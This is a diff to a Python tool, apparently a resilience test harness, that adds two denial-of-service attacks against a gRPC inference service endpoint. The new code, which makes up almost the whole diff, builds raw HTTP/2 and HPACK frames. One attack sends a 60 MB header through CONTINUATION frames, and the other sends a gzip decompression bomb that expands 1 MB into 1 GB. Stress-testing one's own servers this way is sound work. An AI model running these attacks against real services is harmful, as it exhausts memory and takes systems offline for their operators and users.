@@ -26,10 +26,41 @@ import ssl
 import struct
 import sys
 import time
+import zlib
 
 FRAME_HEADER_BYTES = 16
 PROBE_PATIENCE_S = 1.0
 HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # and empty SETTINGS
+HTTP2_FRAME_BYTES = 16384
+DATA, HEADERS, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 4, 7, 8, 9
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+
+
+def http2_frame(kind, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+def hpack_length(length):
+    """The length of a string that is not Huffman-coded: an integer with a prefix of 7 bits (RFC 7541, 5.1)."""
+    if length < 127:
+        return bytes((length,))
+    coded, length = bytearray((127,)), length - 127
+    while length >= 128:
+        coded.append(0x80 | length & 0x7F)
+        length >>= 7
+    coded.append(length)
+    return bytes(coded)
+
+
+def hpack_field(name, value):
+    """A header field that enters no table."""
+    return b"\0" + hpack_length(len(name)) + name + hpack_length(len(value)) + value
+
+
+def grpc_head(path):
+    return b"".join(hpack_field(name, value) for name, value in (
+        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"h"), (b"te", b"trailers"),
+        (b"content-type", b"application/grpc"), (b"grpc-encoding", b"gzip")))
 
 
 ATTACK = contextvars.ContextVar("attack", default="")  # of the task
@@ -355,8 +386,76 @@ class Attacker:
         for i in range(self.many(400)):
             yield self.forever(lambda seconds=0.05 if i % 20 == 0 else 30: hold(seconds), 0.5)
 
+    def headers(self):
+        """gRPC calls with one header of 60 MB."""
+        path = b"/inference.GRPCInferenceService/ModelInfer"
+        begin = grpc_head(path) + b"\0" + hpack_length(1) + b"x" + hpack_length(60 << 20)
+        piece = http2_frame(CONTINUATION, 0, 1, b"v" * HTTP2_FRAME_BYTES)
 
-ATTACKS = ("announce", "silent", "gzip", "status", "pages", "readers", "frames", "churn", "backend", "grpc")
+        async def send():
+            async with self.connection("grpc") as (reader, writer):
+                self.count("headers")
+                writer.write(HTTP2_PREFACE + http2_frame(HEADERS, 0, 1, begin))
+                for _ in range((60 << 20) // HTTP2_FRAME_BYTES):
+                    await self.budget.turn()
+                    writer.write(piece)
+                    await writer.drain()
+                    self.count("header bytes", HTTP2_FRAME_BYTES)
+                    if self.budget.stopping or reader.at_eof():
+                        break
+
+        for _ in range(self.many(100)):
+            yield self.forever(send, 0.5)
+
+    def packed(self):
+        """gRPC messages of 1 MB that grow to 1 GB."""
+        packer = zlib.compressobj(9, wbits=31)
+        begin = packer.compress(b"") or packer.flush(zlib.Z_FULL_FLUSH)
+        part = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+        bomb = begin + part * 1024  # after a full flush each part stands for itself
+        message = b"\1" + len(bomb).to_bytes(4, "big") + bomb
+        head = grpc_head(b"/inference.GRPCInferenceService/ModelInfer")
+
+        async def send():
+            async with self.connection("grpc") as (reader, writer):
+                self.count("bombs")
+                writer.write(HTTP2_PREFACE + http2_frame(HEADERS, END_HEADERS, 1, head))
+                windows = {0: 65535, 1: 65535}
+                sent = 0
+                while sent < len(message) and not self.budget.stopping:
+                    await self.budget.turn()
+                    part = message[sent:sent + min(HTTP2_FRAME_BYTES, windows[0], windows[1])]
+                    if part:
+                        writer.write(http2_frame(DATA, 0, 1, part))
+                        await writer.drain()
+                        sent += len(part)
+                        windows = {stream: window - len(part) for stream, window in windows.items()}
+                    else:
+                        await self.http2_answer(reader, writer, windows)
+                while not self.budget.stopping:
+                    await self.http2_answer(reader, writer, windows)
+
+        for _ in range(self.many(8)):
+            yield self.forever(send, 0.2)
+
+    async def http2_answer(self, reader, writer, windows):
+        """Reads one frame and follows its flow control. Raises EOFError once the server ended the call."""
+        head = await asyncio.wait_for(reader.readexactly(9), 20)
+        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:9], "big")
+        payload = await asyncio.wait_for(reader.readexactly(int.from_bytes(head[:3], "big")), 20)
+        if kind == WINDOW_UPDATE and stream in windows:
+            windows[stream] += int.from_bytes(payload, "big")
+        elif kind == SETTINGS and not flags & ACK:
+            for at in range(0, len(payload), 6):
+                if int.from_bytes(payload[at:at + 2], "big") == 4:  # the initial window of a stream
+                    windows[1] += int.from_bytes(payload[at + 2:at + 6], "big") - 65535
+            writer.write(http2_frame(SETTINGS, ACK, 0, b""))
+        elif kind == GOAWAY or (kind == HEADERS and flags & END_STREAM):
+            raise EOFError
+
+
+ATTACKS = ("announce", "silent", "gzip", "status", "pages", "readers", "frames", "churn", "backend", "grpc", "headers",
+           "packed")
 
 
 class Probe:
